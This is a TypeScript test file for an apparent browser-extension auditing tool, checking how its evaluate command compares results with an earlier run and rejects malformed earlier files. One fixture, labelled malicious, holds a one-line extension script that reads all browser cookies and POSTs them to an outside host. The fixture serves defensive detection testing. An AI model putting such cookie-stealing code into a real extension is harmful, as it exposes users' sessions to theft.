import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Comparison } from '../evaluate/compare-results.ts';
import type { Measurement } from '../evaluate/measurement.ts';
import { writeTestExtension } from '../evaluate/test-extension.ts';
import { runBinary } from '../run-binary.ts';

describe('extaudit evaluate --against', () => {
  let folder = '';
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'extaudit-against-'));
    await writeTestExtension(folder, 'tide-table', {}, 'console.log("high water");');
    await writeTestExtension(folder, 'gone', {}, 'console.log("adrift");');
    await writeTestExtension(folder, 'new', {}, 'console.log("afloat");');
    await writeTestExtension(
      folder,
      'cookie-thief',
      { permissions: ['cookies'], host_permissions: ['<all_urls>'] },
      'chrome.cookies.getAll({}, (all) => fetch("https://drop.tides.dev/in", { method: "POST", body: JSON.stringify(all) }));',
    );
  });
  after(() => rm(folder, { recursive: true }));

  async function writeIndex(...honest: readonly string[]): Promise<string> {
    const file = join(folder, `${honest.join('-')}-index.json`);
    const list = [
      ...honest.map((id) => ({ id, label: 'benign', tier: 'store_grade', dir: id })),
      { id: 'cookie-thief', label: 'malicious', tier: 'poc', dir: 'cookie-thief' },
    ];
    await writeFile(file, JSON.stringify(list));
    return file;
  }

  it('tells what changed since an earlier result, in the tables and in the JSON document', async () => {
    const earlier = join(folder, 'earlier.json');
    const options = ['--no-intel', '--format', 'json', '--output'];
    await runBinary(['evaluate', await writeIndex('tide-table', 'gone'), ...options, earlier]);
    const document = JSON.parse(await readFile(earlier, 'utf8')) as { entries: Measurement[] };
    const [calm, , thief] = document.entries;
    assert.ok(calm && thief);
    Object.assign(calm, { classification: 'suspicious', rules: [...calm.rules, 'crypto-mining'] });
    Object.assign(thief, { rules: thief.rules.filter((id) => id !== 'cookies-sent'), flows: [] });
    await writeFile(earlier, JSON.stringify(document));
    const output = join(folder, 'later.json');
    const index = await writeIndex('tide-table', 'new');
    const run = ['evaluate', index, ...options, output, '--against', earlier];
    const { code, stdout, stderr } = await runBinary(run);
    assert.equal(code, 0, stderr);
    assert.match(stdout, /^Compared with .*earlier\.json: 2 entries of both/m);
    assert.match(stdout, /^benign +store_grade +tide-table +suspicious -> clean$/m);
    assert.match(stdout, /^benign store_grade tide-table\n {2}- crypto-mining\n/m);
    assert.match(
      stdout,
      /^malicious poc cookie-thief\n {2}\+ cookies-sent\n {2}\+ flow cookies > network \(theft\)\n/m,
    );
    assert.match(stdout, /^flagged benign +0 +1$/m);
    assert.match(stdout, /^rule crypto-mining +0 +1$/m);
    const { comparison } = JSON.parse(await readFile(output, 'utf8')) as { comparison: Comparison };
    assert.deepEqual([comparison.only_before, comparison.only_now], [['gone'], ['new']]);
    assert.deepEqual(comparison.totals.findings, { came: 1, went: 1 });
  });

  const tool = { ruleset_version: '1.2', ruleset_hash: 'ab', intel_hash: 'none' };
  const row = {
    id: 'a',
    label: 'benign',
    tier: 'x',
    classification: 'clean',
    rules: [],
    flows: [],
  };
  const wrong: readonly [string, string | undefined, RegExp][] = [
    ['is not there', undefined, /against\.json cannot be read: there is no such file or folder$/m],
    ['is no JSON', '{"id":"a"}\n{"id":"b"}\n', /against\.json is no JSON/],
    ['is something else', '[1]', /no result of extaudit evaluate --format json/],
    ['says nothing of the rule set', '{"entries":[]}', /has no tool\.ruleset_version/],
    [
      'is older and lacks fields',
      JSON.stringify({ tool, entries: [row, { ...row, flows: undefined }] }),
      /entry 2 has no flows that can be compared; measure the list again/,
    ],
    [
      'has a class that is none',
      JSON.stringify({ tool, entries: [{ ...row, classification: 'fine' }] }),
      /entry 1 has no classification that can be compared/,
    ],
  ];
  for (const [what, text, message] of wrong) {
    it(`1 before any audit when the earlier result ${what}`, async () => {
      const file = join(await mkdtemp(join(folder, 'bad-')), 'against.json');
      if (text !== undefined) await writeFile(file, text);
      const index = await writeIndex('tide-table');
      const { code, stdout, stderr } = await runBinary(['evaluate', index, '--against', file]);
      assert.deepEqual([code, stdout], [1, '']);
      assert.match(stderr, message);
      assert.doesNotMatch(stderr, /\n +at /, 'no stack trace');
    });
  }
});
